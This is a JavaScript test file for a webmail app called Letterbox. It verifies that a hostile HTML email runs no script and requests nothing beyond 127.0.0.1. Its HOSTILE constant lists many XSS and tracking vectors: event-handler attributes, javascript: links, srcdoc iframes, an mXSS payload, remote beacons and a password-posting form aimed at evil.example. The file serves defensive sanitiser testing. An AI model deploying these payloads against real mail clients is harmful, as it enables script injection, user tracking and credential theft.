// 3. A hostile HTML message: no script of it runs (in the page or any frame) and the browser
// requests nothing from anywhere but Letterbox on 127.0.0.1.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launch, withContext, newUsers, saveMessage, message, login, openMessage, loaded } from '../lib/harness.js';

// Every way in that we know of; each one would report itself through window.top.__pwned(what).
const HOSTILE = `
<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/linked.css">
<style>
  @import url("https://evil.example/imported.css");
  body { background: url("https://evil.example/body-bg.png"); }
  .x { background-image: url(https://evil.example/class-bg.png); }
  @font-face { font-family: evil; src: url(https://evil.example/font.woff); }
</style>
<script>window.top.__pwned('head script')</script>
</head>
<body onload="window.top.__pwned('body onload')">
<h1 id="hostile-heading">Totally normal invoice</h1>
<script>window.top.__pwned('script tag')</script>
<script src="https://evil.example/remote.js"></script>
<img src="x" onerror="window.top.__pwned('img onerror')" alt="broken">
<img src="https://evil.example/pixel.gif" alt="tracker" width="1" height="1">
<img srcset="https://evil.example/srcset.png 2x" alt="srcset">
<svg><script>window.top.__pwned('svg script')</script><image href="https://evil.example/svg.png" onload="window.top.__pwned('svg onload')"/></svg>
<svg onload="window.top.__pwned('svg element onload')"></svg>
<a id="js-link" href="javascript:window.top.__pwned('javascript link')">Open your invoice</a>
<a id="js-link-2" href="  JaVaScRiPt:window.top.__pwned('javascript link, mixed case')">Details</a>
<div class="x" style="background: url('https://evil.example/inline-bg.png'); width: 10px; height: 10px" onmouseover="window.top.__pwned('onmouseover')">hover</div>
<p style="behavior: url(https://evil.example/x.htc); background-image: image-set('https://evil.example/set.png' 1x)">styled</p>
<iframe src="https://evil.example/frame.html"></iframe>
<iframe srcdoc="<script>window.top.__pwned('srcdoc iframe')</script>"></iframe>
<object data="https://evil.example/object.swf"></object>
<embed src="https://evil.example/embed.swf">
<video src="https://evil.example/video.mp4" poster="https://evil.example/poster.png" autoplay></video>
<audio src="https://evil.example/audio.mp3" autoplay></audio>
<form action="https://evil.example/steal" method="post"><input name="password" value="hunter2"><button id="form-button" type="submit">Confirm</button></form>
<form id="auto" action="https://evil.example/auto"><input autofocus onfocus="window.top.__pwned('autofocus onfocus')"></form>
<math><mtext><table><mglyph><style><img src=x onerror="window.top.__pwned('mXSS')"></style></mglyph></table></mtext></math>
<details open ontoggle="window.top.__pwned('ontoggle')"><summary>more</summary>text</details>
</body></html>`;

let browser;
let victim;
before(async () => {
  browser = await launch();
  [victim] = await newUsers('victim');
  saveMessage(victim.user, message({ from: 'Billing <billing@evil.example>', to: victim.user, subject: 'Your invoice (hostile)', html: HOSTILE }));
});
after(async () => { await browser?.close(); });

test('a hostile HTML message runs no script and requests nothing but 127.0.0.1', { timeout: 90000 }, async () => {
  await withContext(browser, 'hostile', {}, async (context) => {
    const pwned = [];
    const offsite = [];
    // Callable from the page and from every frame (if any script of the message ever ran).
    await context.exposeBinding('__pwned', ({ frame }, what) => { pwned.push(`${what} (in ${frame?.url()})`); });
    await context.addInitScript(() => {
      // Also catch scripts that try other ways to say they ran.
      window.alert = window.confirm = window.prompt = (what) => window.top.__pwned?.(`dialog: ${what}`);
    });
    await context.route('**/*', (route) => {
      const url = new URL(route.request().url());
      if (url.hostname === '127.0.0.1' && (url.protocol === 'http:' || url.protocol === 'ws:')) return route.continue();
      offsite.push(`${route.request().resourceType()} ${url.href}`);
      return route.abort('blockedbyclient');
    });
    context.on('request', (request) => {
      const url = new URL(request.url());
      if (!['127.0.0.1'].includes(url.hostname) && !['data:', 'about:', 'blob:'].includes(url.protocol)) offsite.push(`(seen) ${request.url()}`);
    });
    const dialogs = [];
    context.on('page', (page) => page.on('dialog', (dialog) => { dialogs.push(dialog.message()); dialog.dismiss().catch(() => {}); }));
    const popups = [];

    const page = await context.newPage();
    page.on('popup', (popup) => popups.push(popup.url()));
    await login(page, victim);
    await openMessage(page, 'Your invoice (hostile)');
    const body = page.frameLocator('iframe.message-body');
    await body.locator('#hostile-heading, h1').first().waitFor();
    assert.equal((await body.locator('h1').first().textContent()).trim(), 'Totally normal invoice');

    // Try the interactive ways in too: hover, links, the form button.
    await body.locator('text=hover').hover().catch(() => {});
    for (const selector of ['#js-link', '#js-link-2', 'a:text("Open your invoice")', 'a:text("Details")', '#form-button', 'button:text("Confirm")']) {
      const target = body.locator(selector).first();
      if (await target.count()) await target.click({ timeout: 2000 }).catch(() => {});
    }
    await loaded(page);
    const frame = page.frame({ url: /\/body/ });
    assert.ok(frame, 'the body frame is there');
    const report = await frame.evaluate(() => ({
      scripts: document.querySelectorAll('script').length,
      handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}[${a.name}]`)),
      jsLinks: [...document.querySelectorAll('[href], [src], [action], [formaction]')].filter((el) => /^\s*javascript:/i.test(el.getAttribute('href') || el.getAttribute('src') || el.getAttribute('action') || el.getAttribute('formaction') || '')).length,
      frames: document.querySelectorAll('iframe, frame, object, embed').length,
      forms: [...document.querySelectorAll('form')].map((f) => f.getAttribute('action')),
      remoteRefs: document.documentElement.outerHTML.match(/https?:\/\/evil\.example[^"')\s]*/g) || [],
    }));
    assert.equal(report.scripts, 0, 'no <script> element survives');
    assert.deepEqual(report.handlers, [], 'no event handler attribute survives');
    assert.equal(report.jsLinks, 0, 'no javascript: URL survives');
    assert.equal(report.frames, 0, 'no frame, object or embed survives');
    assert.ok(report.forms.every((action) => !action || !/^https?:/i.test(action)), `no form posts elsewhere: ${report.forms}`);
    assert.deepEqual(report.remoteRefs, [], 'no remote URL is left in the shown body');

    assert.deepEqual(pwned, [], 'no script of the message ran');
    assert.deepEqual(dialogs, [], 'no dialog was opened');
    assert.deepEqual(offsite, [], 'nothing was requested from anywhere but 127.0.0.1');
    assert.ok(popups.every((url) => url === 'about:blank' || new URL(url).hostname === '127.0.0.1'), `no popup went elsewhere: ${popups}`);
  });
});
